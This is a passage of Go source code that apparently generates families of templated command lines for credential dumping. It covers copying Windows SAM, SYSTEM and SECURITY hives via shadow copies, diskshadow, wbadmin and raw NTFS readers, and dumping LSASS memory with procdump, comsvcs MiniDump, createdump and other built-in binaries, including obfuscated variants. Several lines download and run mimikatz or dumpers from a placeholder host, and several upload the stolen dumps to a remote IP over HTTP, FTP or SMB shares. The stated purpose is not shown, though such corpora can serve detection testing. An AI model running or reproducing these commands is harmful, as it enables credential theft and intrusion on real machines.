			`vssadmin create shadow /for=C: > {{wtemp}}\v.txt & for /f "tokens=5" %i in ('findstr /c:"Volume Name" {{wtemp}}\v.txt') do copy %i\{{cfg}}\SAM {{wtemp}}\{{samout}}`,
			`for /f "tokens=4" %%a in ('vssadmin list shadows ^| find "Shadow Copy Volume"') do (copy %%a\{{cfg}}\SAM {{wtemp}}\{{samout}} & copy %%a\{{cfg}}\SYSTEM {{wtemp}}\{{sysout}})`,
			`vssadmin create shadow /for=C: /autoretry=5 & for /f "tokens=4" %v in ('vssadmin list shadows ^| findstr GLOBALROOT') do xcopy /y %v\{{cfg}}\SECURITY {{wtemp}}\`,
			`for /f "usebackq skip=1" %d in (`+"`"+`wmic shadowcopy get DeviceObject`+"`"+`) do esentutl /y %d\{{cfg}}\SAM /d {{wtemp}}\{{samout}}`),
		fam("cred/hivenightmare-cmd-loop", c, "windows", Cmd,
			`for /l %i in (1,1,{{10|15|20|30}}) do @copy {{\\?|\\.}}\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\{{cfg}}\SAM {{wtemp}}\sam%i 2>nul`,
			`for /l %n in (1,1,{{10|25}}) do copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%n\Windows\System32\config\SYSTEM {{wtemp}}\system%n`,
			`icacls {{crsam}} {{amp}} copy {{shadow}}\{{cfg}}\SAM {{wtemp}}\{{samout}}`,
			`for /l %%i in (1,1,20) do if exist \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%%i\{{cfg}}\SAM copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%%i\{{cfg}}\SAM {{wtemp}}\sam_%%i`,
			`icacls C:\Windows\System32\config\SAM | findstr "BUILTIN\Users:(I)(RX)" && copy {{shadow}}\{{cfg}}\SAM {{wtemp}}\{{samout}} && copy {{shadow}}\{{cfg}}\SYSTEM {{wtemp}}\{{sysout}}`,
			`for /l %i in (1,1,9) do (copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\Windows\System32\config\SAM {{wtemp}}\s%i & copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%i\Windows\System32\config\SECURITY {{wtemp}}\c%i)`),
		fam("cred/hivenightmare-ps-loop", c, "windows", PS,
			`1..{{10|20|30}} | % { Copy-Item "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\Windows\System32\config\SAM" "{{pstemp}}\sam$_" -ErrorAction SilentlyContinue }`,
			`foreach ($i in 1..15) { $p = "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$i\Windows\System32\config"; 'SAM','SYSTEM','SECURITY' | % { [IO.File]::Copy("$p\$_", "{{pstemp}}\$_$i", $true) } }`,
			`if ((icacls C:\Windows\System32\config\SAM) -match 'BUILTIN\\Users:\(I\)\(RX\)') { 1..10 | % { cp "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\Windows\System32\config\SAM" {{pstemp}}\{{samout}} -EA 0 } }`,
			`for ($i = 1; $i -le {{10|20}}; $i++) { try { [System.IO.File]::Copy("\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$i\Windows\System32\config\SYSTEM", "{{pstemp}}\system-$i") } catch {} }`,
			`Get-Acl C:\Windows\System32\config\SAM | fl; 1..8 | % { Copy-Item -LiteralPath "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy$_\Windows\System32\config\SAM" -Destination "{{pstemp}}\SAM-$_" -EA SilentlyContinue }`),
		fam("cred/serioussam-tools", c, "windows", Cmd,
			`ShadowSteal.exe{{| -z| -o {{wtemp}}}}`,
			`CVE-2021-36934.exe{{| -o {{wtemp}}| {{n}}}}`,
			`{{wtemp}}\HiveNightmare.exe {{n}} {{amp}} secretsdump.exe -sam SAM-{{date}} -system SYSTEM-{{date}} -security SECURITY-{{date}} LOCAL`,
			`HiveNightmare.exe & move SAM-{{date}} {{wtemp}}\{{samout}} & move SYSTEM-{{date}} {{wtemp}}\{{sysout}}`,
			`SharpHiveNightmare.exe{{| {{wtemp}}}}`,
			`{{rndexe}} & copy SAM-{{date}} SYSTEM-{{date}} \\{{ip}}\{{crshare}}\`,
			`python CVE-2021-36934.py -o {{wtemp}}`),
		fam("cred/diskshadow-exec-script", c, "windows", Raw,
			`set context persistent nowriters
add volume c: alias {{crvar}}
create
expose %{{crvar}}% {{crdrive}}:
exec "cmd.exe" /c copy {{crdrive}}:\windows\system32\config\SAM {{wtemp}}\{{samout}}`,
			`set verbose on
set metadata {{wtemp}}\{{word}}.cab
set context clientaccessible
set context persistent
begin backup
add volume C: alias {{crvar}}
create
expose %{{crvar}}% {{crdrive}}:
end backup
exec "cmd.exe" /c robocopy /b {{crdrive}}:\Windows\System32\config {{wtemp}} SAM SYSTEM SECURITY`,
			`set context persistent nowriters
add volume c: alias {{crvar}}
create
expose %{{crvar}}% {{crdrive}}:
exec C:\Windows\System32\cmd.exe /c copy {{crdrive}}:\Windows\System32\config\SYSTEM {{wtemp}}\{{sysout}} & copy {{crdrive}}:\Windows\System32\config\SECURITY {{wtemp}}\{{secout}}`,
			`diskshadow> add volume c: alias {{crvar}}
diskshadow> create
diskshadow> expose %{{crvar}}% {{crdrive}}:
diskshadow> exec "cmd.exe" /c copy {{crdrive}}:\Windows\System32\config\SAM \\{{ip}}\{{crshare}}\{{samout}}`),
		fam("cred/wbadmin-recovery-hives", c, "windows", Cmd,
			`wbadmin start backup -backupTarget:\\{{host}}\{{crshare}} -include:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM,C:\Windows\System32\config\SECURITY -quiet`,
			`wbadmin start recovery -version:{{crwbver}} -itemtype:file -items:C:\Windows\System32\config\SAM -recoverytarget:{{wtemp}} -notrestoreacl -quiet`,
			`wbadmin start recovery -version:{{crwbver}} -itemtype:file -items:c:\windows\system32\config\SYSTEM,c:\windows\system32\config\SAM -backupTarget:{{crdrive}}: -recoveryTarget:{{wtemp}}\{{word}} -notRestoreAcl -quiet`,
			`echo y | wbadmin start backup -backuptarget:{{crdrive}}: -include:C:\Windows\System32\config\{{hive}}`,
			`wbadmin get versions -backupTarget:{{crdrive}}: & wbadmin start recovery -version:{{crwbver}} -itemType:File -items:C:\Windows\System32\config\SECURITY -recoveryTarget:{{wtemp}} -quiet`,
			`wbadmin start backup -backuptarget:\\{{ip}}\{{crshare}} -include:{{crsam}},{{crsys}} -quiet -vssCopy`),
		fam("cred/ps-raw-ntfs-readers", c, "windows", PS,
			`Copy-ForensicFile -Path {{crpssam}} -Destination {{pstemp}}\{{samout}}`,
			`Import-Module PowerForensics; Copy-ForensicFile -Path C:\Windows\System32\config\SYSTEM -Destination {{pstemp}}\{{sysout}}`,
			`Invoke-NinjaCopy -Path "C:\Windows\System32\config\SAM" -RemoteDestination "C:\Windows\Temp\{{samout}}" -ComputerName {{host}}`,
			`'SAM','SYSTEM','SECURITY' | % { Invoke-NinjaCopy -Path "C:\Windows\System32\config\$_" -LocalDestination "{{pstemp}}\$_.{{hiv|bak|bin}}" }`,
			`$b = Invoke-NinjaCopy -Path C:\Windows\System32\config\SECURITY -ComputerName {{host}} -BufferSize 4096; [IO.File]::WriteAllBytes('{{pstemp}}\{{secout}}', $b)`,
			`Get-ForensicFileRecord -Path {{crpssam}} | Copy-ForensicFile -Destination {{pstemp}}\{{samout}}`,
			`IEX (iwr {{crdl}}/PowerForensics.ps1 -UseBasicParsing); Copy-ForensicFile -Path C:\Windows\System32\config\SECURITY -Destination {{pstemp}}\{{secout}}`),
		fam("cred/raw-ntfs-reader-tools", c, "windows", Cmd,
			`ntfsdump{{|.exe}} {{crsam}} -o {{wtemp}}\{{samout}}`,
			`rawccopy{{|.exe}} /FileNamePath:{{crsys}} /OutputPath:{{wtemp}}`,
			`for /f "tokens=2" %i in ('fls -r -p \\.\C: ^| findstr /e "config/SAM"') do icat \\.\C: %i > {{wtemp}}\{{samout}}`,
			`ntfscopy.exe {{crsam}} {{wtemp}}\{{samout}} -raw`,
			`{{rndexe}} /FileNamePath:C:\Windows\System32\config\SECURITY /OutputPath:{{wtemp}} /OutputName:{{secout}}`,
			`RawCopy64.exe /FileNamePath:{{crsam}} /OutputPath:{{wtemp}} /AllAttr:1`,
			`fget.exe -extract {{crsam}} {{wtemp}}\{{samout}}`),
		fam("cred/offline-disk-hive-copy", c, "linux", Sh,
			`mount -o ro /dev/{{sdb2|sda3|nvme1n1p2|vdb2|sdc1}} /mnt/{{word}} && cp /mnt/{{word}}/Windows/System32/config/{SAM,SYSTEM,SECURITY} {{crloot}}/`,
			`ntfs-3g -o ro /dev/{{sdb2|sda2}} /mnt/win; cp /mnt/win/Windows/System32/config/SAM /mnt/win/Windows/System32/config/SYSTEM {{crloot}}/`,
			`guestmount -a {{word}}.vhdx -i --ro /mnt/{{word}} && cp /mnt/{{word}}/Windows/System32/config/SAM /mnt/{{word}}/Windows/System32/config/SYSTEM {{crloot}}/`,
			`7z e {{word}}.vhdx Windows/System32/config/SAM Windows/System32/config/SYSTEM -o{{crloot}}`,
			`virt-copy-out -a {{word}}.qcow2 /Windows/System32/config/SAM /Windows/System32/config/SYSTEM {{crloot}}/`,
			`ntfscat /dev/{{sdb2|sda2|nvme0n1p3}} /Windows/System32/config/SAM > {{crloot}}/sam`,
			`sudo mount -t ntfs-3g -o ro /dev/sdb2 /mnt && secretsdump.py -sam /mnt/Windows/System32/config/SAM -system /mnt/Windows/System32/config/SYSTEM LOCAL`,
			`qemu-nbd -c /dev/nbd0 {{word}}.vmdk && mount /dev/nbd0p2 /mnt/{{word}} && cp /mnt/{{word}}/Windows/System32/config/{SAM,SYSTEM} {{crloot}}/`),
		fam("cred/ps-vhd-mount-hive-copy", c, "windows", PS,
			`Mount-DiskImage -ImagePath '\\{{host}}\{{crshare}}\WindowsImageBackup\{{host}}\Backup {{date}} 101010\{{guid}}.vhdx' -Access ReadOnly; Copy-Item {{crdrive}}:\Windows\System32\config\SAM,{{crdrive}}:\Windows\System32\config\SYSTEM {{pstemp}}\`,
			`Mount-VHD -Path {{pstemp}}\{{word}}.vhdx -ReadOnly; Copy-Item {{crdrive}}:\Windows\System32\config\{{hive}} {{pstemp}}\{{samout}}`,
			`$d = Mount-DiskImage -ImagePath {{pstemp}}\{{word}}.vhd -PassThru | Get-Disk | Get-Partition | Get-Volume; Copy-Item "$($d.DriveLetter):\Windows\System32\config\SAM" {{pstemp}}\{{samout}}`,
			`Mount-DiskImage \\{{host}}\{{crshare}}\{{word}}.vhdx; 'SAM','SYSTEM','SECURITY' | % { Copy-Item "{{crdrive}}:\Windows\System32\config\$_" {{pstemp}} }`),
		fam("cred/legacy-repair-hive-copy", c, "windows", Cmd,
			`copy %windir%\repair\sam {{wtemp}}\{{samout}}`,
			`copy C:\Windows\repair\SAM {{wtemp}}\{{samout}} {{amp}} copy C:\Windows\repair\system {{wtemp}}\{{sysout}}`,
			`expand C:\Windows\repair\sam._ {{wtemp}}\{{samout}}`,
			`xcopy %systemroot%\repair\sam* {{wtemp}}\ /h /y`,
			`type C:\WINDOWS\repair\SECURITY > {{wtemp}}\{{secout}}`,
			`copy C:\Windows.old\Windows\System32\config\SAM {{wtemp}}\{{samout}} {{amp}} copy C:\Windows.old\Windows\System32\config\SYSTEM {{wtemp}}\{{sysout}}`,
			`robocopy C:\Windows.old\Windows\System32\config {{wtemp}} SAM SYSTEM SECURITY /r:0`),
		fam("cred/ps-shadow-symlink-copy", c, "windows", PS,
			`$s = (Get-CimInstance Win32_ShadowCopy | Sort-Object InstallDate | Select-Object -Last 1).DeviceObject + '\'; New-Item -ItemType SymbolicLink -Path C:\{{word}} -Target $s; Copy-Item C:\{{word}}\Windows\System32\config\SAM {{pstemp}}\{{samout}}`,
			`(Get-WmiObject Win32_ShadowCopy)[0].DeviceObject | % { Copy-Item "$_\Windows\System32\config\SYSTEM" {{pstemp}}\{{sysout}} }`,
			`Get-WmiObject Win32_ShadowCopy | % { cmd /c copy "$($_.DeviceObject)\Windows\System32\config\SAM" "{{pstemp}}\sam_$($_.ID).hiv" }`,
			`vssadmin create shadow /for=C: | Out-Null; $d = (vssadmin list shadows | sls 'Shadow Copy Volume: (.*)' | select -Last 1).Matches.Groups[1].Value; cp "$d\Windows\System32\config\SAM" {{pstemp}}\{{samout}}`,
			`$id = (Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create -Arguments @{Volume='C:\'}).ShadowID; $dev = (Get-CimInstance Win32_ShadowCopy -Filter "ID='$id'").DeviceObject; cmd /c copy "$dev\Windows\System32\config\SECURITY" {{pstemp}}\{{secout}}`,
			`New-Item -ItemType Junction -Path {{pstemp}}\{{word}} -Target ((gwmi Win32_ShadowCopy | select -First 1).DeviceObject + '\'); Copy-Item {{pstemp}}\{{word}}\Windows\System32\config\SAM,{{pstemp}}\{{word}}\Windows\System32\config\SYSTEM {{pstemp}}\`),
		fam("cred/hive-inspection-tools", c, "linux", Sh,
			`hivexget {{samout}} '\SAM\Domains\Account\Users\{{crrid}}' V > {{crloot}}/{{word}}.bin`,
			`hivexget {{samout}} '\SAM\Domains\Account' F`,
			`regfexport {{samout}} > {{crloot}}/sam.txt`,
			`hivexregedit --export {{samout}} '\SAM\Domains\Account' > {{crloot}}/account.reg`,
			`hivexget {{secout}} '\Policy\Secrets\{{DefaultPassword|$MACHINE.ACC|NL$KM}}\CurrVal' '@'`,
			`reglookup -p /SAM/Domains/Account/Users {{samout}}`),
	}
}

// credMoreLsass covers LSASS memory dumps: procdump, comsvcs, LOLBins,
// dedicated dumpers, PPL bypasses and WER tricks.
func credMoreLsass() []Family {
	c := T1003
	return []Family{
		fam("cred/procdump-flag-variants", c, "windows", Cmd,
			`{{procdump}} -accepteula -r {{1|3|5}} -ma {{lsass}} {{wtemp}}\{{dmp}}`,
			`{{procdump}} -ma -r {{lsass}} {{wtemp}}\{{dmp}} -o`,
			`{{procdump}} -accepteula -mp -o {{lsass}} {{wtemp}}\{{dmp}}`,
			`{{procdump}} /accepteula /ma {{lsass}} {{wtemp}}\{{dmp}}`,
			`{{procdump}} -accepteula -ma -n 1 {{lsass}} {{wtemp}}\{{dmp}}`,
			`{{procdump}} -ma {{lsass}} -accepteula -o {{wtemp}}\{{host}}_{{dmp}}`,
			`{{procdump}} -accepteula -ma {{lsass}} {{wtemp}}`,
			`{{procdump}} -64 -ma lsass.exe -o {{wtemp}}\{{dmp}}`,
			`{{procdump}} -mm -o {{lsass}}`,
			`{{procdump}} -accepteula -ma -w {{lsass}} {{wtemp}}\{{dmp}}`),
		fam("cred/procdump-pid-lookup", c, "windows", Cmd,
			`for /f "tokens=2" %i in ('tasklist ^| findstr /i lsass') do {{procdump}} -accepteula -ma %i {{wtemp}}\{{dmp}}`,
			`for /f "tokens=2 delims=," %p in ('tasklist /fo csv /nh /fi "imagename eq lsass.exe"') do {{procdump}} -ma %~p {{wtemp}}\{{dmp}}`,
			`tasklist {{pipe}} findstr lsass {{amp}} {{procdump}} -accepteula -ma {{lsapid}} {{wtemp}}\{{dmp}}`,
			`wmic process where name='lsass.exe' get processid {{amp}} {{procdump}} -ma {{lsapid}} {{wtemp}}\{{lsadmp}}`,
			`for /f "tokens=2 delims==" %i in ('wmic process where "name='lsass.exe'" get processid /value') do {{procdump}} -accepteula -r -ma %i {{wtemp}}\{{dmp}}`,
			`for /f "tokens=2" %%a in ('tasklist /svc ^| find "lsass"') do {{procdump}} -ma %%a {{wtemp}}\{{dmp}} -accepteula`,
			`for /f %i in ('powershell -c "(Get-Process lsass).Id"') do {{procdump}} -accepteula -ma %i {{wtemp}}\{{dmp}}`),
		fam("cred/ps-procdump-lsass-variants", c, "windows", PS,
			`& "{{pstemp}}\procdump64.exe" -accepteula -ma {{crlsaps}} "{{pstemp}}\{{dmp}}"`,
			`Start-Process -FilePath {{pstemp}}\procdump64.exe -ArgumentList "-accepteula -ma lsass.exe {{pstemp}}\{{dmp}}" -WindowStyle Hidden -Wait`,
			`Start-Process procdump.exe "-ma $((Get-Process lsass).Id) {{pstemp}}\{{dmp}} -accepteula" -NoNewWindow`,
			`.\procdump64.exe -accepteula -ma lsass.exe "$env:TEMP\$(hostname)_lsass.dmp"`,
			`$o = "{{pstemp}}\$env:COMPUTERNAME.dmp"; & .\{{rndexe}} -accepteula -r -ma lsass $o`,
			`Get-Process -Name lsass | % { Start-Process {{pstemp}}\{{rndexe}} -ArgumentList "-accepteula -ma $($_.Id) {{pstemp}}\{{dmp}}" -Wait }`,
			`& $env:TEMP\pd.exe /accepteula /ma (Get-Process lsass).Id $env:TEMP\{{dmp}}`),
		fam("cred/procdump-download-run", c, "windows", PS,
			`iwr https://download.sysinternals.com/files/Procdump.zip -OutFile {{pstemp}}\p.zip; Expand-Archive {{pstemp}}\p.zip {{pstemp}}\p -Force; & {{pstemp}}\p\procdump64.exe -accepteula -ma lsass.exe {{pstemp}}\{{dmp}}`,
			`(New-Object Net.WebClient).DownloadFile('{{crdl}}/pd.exe','{{pstemp}}\pd.exe'); & {{pstemp}}\pd.exe -accepteula -ma lsass {{pstemp}}\{{dmp}}`,
			`Invoke-WebRequest -Uri {{crdl}}/procdump64.exe -OutFile $env:TEMP\{{rndexe}}; & $env:TEMP\{{rndexe}} -accepteula -ma lsass.exe $env:TEMP\{{dmp}}`,
			`Start-BitsTransfer -Source {{crdl}}/procdump.exe -Destination {{pstemp}}\{{rndexe}}; & {{pstemp}}\{{rndexe}} -ma (Get-Process lsass).Id {{pstemp}}\{{dmp}} -accepteula`,
			`curl.exe -s -o {{pstemp}}\p64.exe https://live.sysinternals.com/procdump64.exe; {{pstemp}}\p64.exe -accepteula -ma lsass.exe {{pstemp}}\{{dmp}}`),
		fam("cred/lolbin-download-run-dumper", c, "windows", Cmd,
			`certutil -urlcache -split -f {{crdl}}/{{word}}.exe {{wtemp}}\{{rndexe}} {{amp}} {{wtemp}}\{{rndexe}} -accepteula -ma lsass.exe {{wtemp}}\{{dmp}}`,
			`bitsadmin /transfer {{word}} /download /priority high {{crdl}}/m.exe {{wtemp}}\m.exe & {{wtemp}}\m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
			`curl -o {{wtemp}}\{{rndexe}} {{crdl}}/nanodump.exe & {{wtemp}}\{{rndexe}} --write {{wtemp}}\{{dmp}} --valid`,
			`certutil -urlcache -f {{crdl}}/mimikatz.exe {{wtemp}}\{{rndexe}} & {{wtemp}}\{{rndexe}} "{{crkcmd}}" exit`,
			`certutil.exe -urlcache -split -f {{crdl}}/procdump64.exe pd.exe && pd.exe -accepteula -ma lsass.exe {{dmp}}`,
			`curl.exe -sko {{wtemp}}\s.exe {{crdl}}/SharpSecDump.exe & {{wtemp}}\s.exe -target={{host}}`),
		fam("cred/live-sysinternals-procdump", c, "windows", Cmd,
			`\\live.sysinternals.com\tools\procdump{{|64}}.exe -accepteula -ma {{lsass}} {{wtemp}}\{{dmp}}`,
			`net use {{crdrive}}: \\live.sysinternals.com\tools {{amp}} {{crdrive}}:\procdump64.exe -accepteula -ma lsass.exe {{wtemp}}\{{dmp}}`,
			`pushd \\live.sysinternals.com\tools & procdump.exe -accepteula -ma lsass {{wtemp}}\{{dmp}}`,
			`\\live.sysinternals.com@SSL\DavWWWRoot\tools\procdump64.exe -ma lsass.exe {{wtemp}}\{{dmp}} -accepteula`,
			`start /b \\live.sysinternals.com\tools\procdump64.exe -accepteula -r -ma {{lsapid}} {{wtemp}}\{{lsadmp}}`),
		fam("cred/lsass-dump-and-stage", c, "windows", Cmd,
			`{{procdump}} -accepteula -ma lsass.exe {{wtemp}}\{{dmp}} {{amp}} 7z a -p{{pass}} {{wtemp}}\{{word}}.7z {{wtemp}}\{{dmp}}`,
			`{{rundll32}} {{comsvcs}}, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full {{amp}} makecab {{wtemp}}\{{dmp}} {{wtemp}}\{{word}}.cab`,
			`{{procdump}} -ma {{lsass}} {{wtemp}}\{{dmp}} {{amp}} copy {{wtemp}}\{{dmp}} \\{{ip}}\{{crshare}}\{{host}}.dmp`,
			`{{procdump}} -accepteula -ma lsass.exe {{wtemp}}\{{dmp}} {{amp}} curl -F "file=@{{wtemp}}\{{dmp}}" http://{{ip}}:{{port}}/upload`,
			`rundll32 C:\windows\system32\comsvcs.dll, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full {{amp}} certutil -encode {{wtemp}}\{{dmp}} {{wtemp}}\{{word}}.txt`,
			`{{procdump}} -accepteula -ma {{lsass}} {{wtemp}}\{{dmp}} {{amp}} tar -acf {{wtemp}}\{{word}}.zip -C {{wtemp}} {{dmp}}`,
			`{{rundll32}} {{comsvcs}},{{minidump}} {{lsapid}} {{wtemp}}\{{dmp}} full {{amp}} move {{wtemp}}\{{dmp}} \\{{ip}}\{{crshare}}\`),
		fam("cred/ps-lsass-dump-and-stage", c, "windows", PS,
			`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id {{pstemp}}\{{dmp}} full; Compress-Archive {{pstemp}}\{{dmp}} {{pstemp}}\{{word}}.zip`,
			`& .\procdump64.exe -accepteula -ma lsass {{pstemp}}\{{dmp}}; Invoke-WebRequest -Uri http://{{ip}}:{{port}}/upload -Method Put -InFile {{pstemp}}\{{dmp}}`,
			`Get-Process lsass | Out-Minidump -DumpFilePath {{pstemp}}; Copy-Item {{pstemp}}\lsass_*.dmp \\{{ip}}\{{crshare}}\`,
			`rundll32 comsvcs.dll, MiniDump $((gps lsass).id) {{pstemp}}\{{dmp}} full; [Convert]::ToBase64String([IO.File]::ReadAllBytes('{{pstemp}}\{{dmp}}')) | Out-File {{pstemp}}\{{word}}.b64`,
			`$p = (Get-Process lsass).Id; rundll32 comsvcs.dll, MiniDump $p {{pstemp}}\{{dmp}} full; (New-Object Net.WebClient).UploadFile('http://{{ip}}:{{port}}/', '{{pstemp}}\{{dmp}}')`),
		fam("cred/taskmgr-lsass-dmp-collect", c, "windows", Cmd,
			`move %LOCALAPPDATA%\Temp\lsass.DMP \\{{ip}}\{{crshare}}\`,
			`copy C:\Users\{{user}}\AppData\Local\Temp\lsass.DMP {{wtemp}}\{{dmp}}`,
			`xcopy /y "%TEMP%\lsass.DMP" \\{{host}}\{{crshare}}\{{host}}\`,
			`robocopy %LOCALAPPDATA%\Temp \\{{ip}}\{{crshare}} lsass.DMP /mov`,
			`7z a -p{{pass}} {{wtemp}}\{{word}}.7z %LOCALAPPDATA%\Temp\lsass.DMP`,
			`certutil -encode C:\Users\{{user}}\AppData\Local\Temp\lsass.DMP {{wtemp}}\{{word}}.txt`,
			`curl -T %TEMP%\lsass.DMP ftp://{{ip}}/ --user {{user}}:{{pass}}`),
		fam("cred/createdump-variants", c, "windows", Cmd,
			`for /f "tokens=2" %i in ('tasklist /fi "imagename eq lsass.exe" /nh') do "%ProgramFiles%\dotnet\shared\Microsoft.NETCore.App\{{ver}}\createdump.exe" -u -f {{wtemp}}\{{dmp}} %i`,
			`copy "C:\Program Files\dotnet\shared\Microsoft.NETCore.App\{{ver}}\createdump.exe" {{wtemp}}\{{rndexe}} {{amp}} {{wtemp}}\{{rndexe}} --full -f {{wtemp}}\{{lsadmp}} {{lsapid}}`,
			`createdump.exe --full -f {{wtemp}}\{{lsadmp}} {{lsapid}}`,
			`"C:\Program Files\dotnet\shared\Microsoft.NETCore.App\{{ver}}\createdump.exe" -n -f {{wtemp}}\{{lsadmp}} {{lsapid}}`,
			`tasklist | findstr lsass {{amp}} createdump -u -f {{wtemp}}\{{dmp}} {{lsapid}}`,
			`"C:\Program Files\PowerShell\7\createdump.exe" --full --name {{wtemp}}\{{lsadmp}} {{lsapid}}`),
		fam("cred/ps-createdump-lsass", c, "windows", PS,
			`$c = (Get-ChildItem "$env:ProgramFiles\dotnet" -Recurse -Filter createdump.exe | Select-Object -First 1).FullName; & $c -u -f {{pstemp}}\{{dmp}} (Get-Process lsass).Id`,
			`& "C:\Program Files\dotnet\shared\Microsoft.NETCore.App\{{ver}}\createdump.exe" --full -f {{pstemp}}\{{dmp}} {{crlsaps}}`,
			`& "$PSHOME\createdump.exe" -u -f {{pstemp}}\{{dmp}} (Get-Process -Name lsass).Id`,
			`Start-Process createdump.exe -ArgumentList "--full -f {{pstemp}}\{{dmp}} $((Get-Process lsass).Id)" -WindowStyle Hidden`),
		fam("cred/ps-lolbin-lsass-dumpers", c, "windows", PS,
			`& "C:\Program Files\Microsoft SQL Server\{{150|160|140|130}}\Shared\SqlDumper.exe" {{crlsaps}} 0 0x01100{{|:40}}`,
			`$s = Get-ChildItem 'C:\Program Files\Microsoft SQL Server' -Recurse -Filter sqldumper.exe | select -First 1; & $s.FullName (Get-Process lsass).Id 0 0x01100:40 {{pstemp}}`,
			`& "C:\Program Files (x86)\Microsoft Office\root\vfs\ProgramFilesX86\Microsoft Analysis Services\AS OLEDB\{{110|140}}\SQLDumper.exe" $((Get-Process lsass).Id) 0 0x01100:40`,
			`rdrleakdiag.exe /p (Get-Process lsass).Id /o {{pstemp}} /fullmemdmp /wait 1`,
			`& "$env:windir\System32\rdrleakdiag.exe" /p {{crlsaps}} /o {{pstemp}} /fullmemdmp /snap`,
			`TTTracer.exe -dumpFull -attach (Get-Process lsass).Id`,
			`& "$env:ProgramFiles\Microsoft Visual Studio\2022\Enterprise\Common7\IDE\Extensions\TestPlatform\Extensions\DumpMinitool.exe" --file {{pstemp}}\{{dmp}} --processId {{crlsaps}} --dumpType Full`,
			`& "C:\Program Files\Avast Software\Avast\AvDump.exe" --pid (Get-Process lsass).Id --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file {{pstemp}}\{{dmp}}`),
		fam("cred/comsvcs-pid-lookup-variants", c, "windows", Cmd,
			`for /f "tokens=2 delims==" %i in ('wmic process where name^="lsass.exe" get processid /value') do {{rundll32}} {{comsvcs}},{{minidump}} %i {{wtemp}}\{{dmp}} full`,
			`for /f "skip=1" %p in ('wmic process where "name='lsass.exe'" get ProcessId') do rundll32.exe comsvcs.dll MiniDump %p {{wtemp}}\{{dmp}} full`,
			`for /f "tokens=2" %i in ('tasklist /svc ^| findstr /i "lsass"') do {{rundll32}} {{comsvcs}}, {{minidump}} %i {{wtemp}}\{{dmp}} full`,
			`for /f %i in ('powershell -c "(Get-Process lsass).Id"') do rundll32 comsvcs.dll, MiniDump %i {{wtemp}}\{{dmp}} full`,
			`for /f "tokens=1,2 delims= " %A in ('tasklist /fi "imagename eq lsass.exe" ^| find "lsass"') do rundll32.exe C:\windows\System32\comsvcs.dll, #24 %B {{wtemp}}\{{dmp}} full`,
			`for /f "tokens=2" %p in ('tasklist ^| find /i "lsass.exe"') do (set LPID=%p & rundll32.exe {{comsvcs}}, {{minidump}} %p {{wtemp}}\{{dmp}} full)`,
			`for /f "tokens=2 delims=," %a in ('tasklist /fi "imagename eq lsass.exe" /fo csv /nh') do {{rundll32}} {{comsvcs}} #{{24|+24|0024}} %~a {{wtemp}}\{{dmp}} full`),
		fam("cred/comsvcs-renamed-copy-chain", c, "windows", Cmd,
			`copy {{sys32}}\comsvcs.dll {{wtemp}}\{{crdll}} {{amp}} {{rundll32}} {{wtemp}}\{{crdll}}, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`copy C:\Windows\System32\rundll32.exe {{wtemp}}\{{rndexe}} {{amp}} {{wtemp}}\{{rndexe}} comsvcs.dll, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`xcopy /y C:\Windows\System32\comsvcs.dll {{wtemp}}\ {{amp}} rundll32 {{wtemp}}\comsvcs.dll,#24 {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`mklink {{wtemp}}\{{crdll}} C:\Windows\System32\comsvcs.dll {{amp}} rundll32 {{wtemp}}\{{crdll}},MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`copy %windir%\system32\comsvcs.dll {{wtemp}}\{{crdll}} & copy %windir%\system32\rundll32.exe {{wtemp}}\{{rndexe}} & {{wtemp}}\{{rndexe}} {{wtemp}}\{{crdll}},#24 {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`{{rundll32}} {{wtemp}}\{{crdll}},{{minidump}} {{lsapid}} {{wtemp}}\{{lsadmp}} full`),
		fam("cred/comsvcs-env-obfuscation", c, "windows", Cmd,
			`cmd /v:on /c "set {{crvar}}=comsvcs.dll&& rundll32 !{{crvar}}!, MiniDump {{lsapid}} {{wtemp}}\{{dmp}} full"`,
			`set {{crvar}}=MiniDump& call rundll32 comsvcs.dll, %{{crvar}}% {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`rundll32 C:\Windows\System32\com"svcs".dll, Mini"Dump" {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`r^u^n^d^l^l^3^2 c^o^m^s^v^c^s.dll, M^i^n^i^D^u^m^p {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`rundll32 C:\Windows\System32\comsvcs.dll MiniDump "{{lsapid}} {{wtemp}}\{{dmp}} full"`,
			`rundll32.exe %SystemRoot%\System32\comsvcs.dll,MiniDump {{lsapid}} {{wtemp}}\{{dmp}} fu"ll"`,
			`set a=rundll&& set b=32&& call %a%%b% comsvcs.dll, #24 {{lsapid}} {{wtemp}}\{{dmp}} full`,
			`C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll #{{-4294967272|+0024|24}} {{lsapid}} {{wtemp}}\{{dmp}} full`),
		fam("cred/ps-comsvcs-obfuscated", c, "windows", PS,
			`$d = 'com'+'svcs.dll'; $m = 'Mini'+'Dump'; rundll32.exe "C:\Windows\System32\$d, $m $((Get-Process lsass).Id) {{pstemp}}\{{dmp}} full"`,
			`& ('rund'+'ll32') ("{0}\comsvcs.dll, MiniDump {1} {2} full" -f "$env:windir\System32", (gps lsass).Id, "{{pstemp}}\{{dmp}}")`,
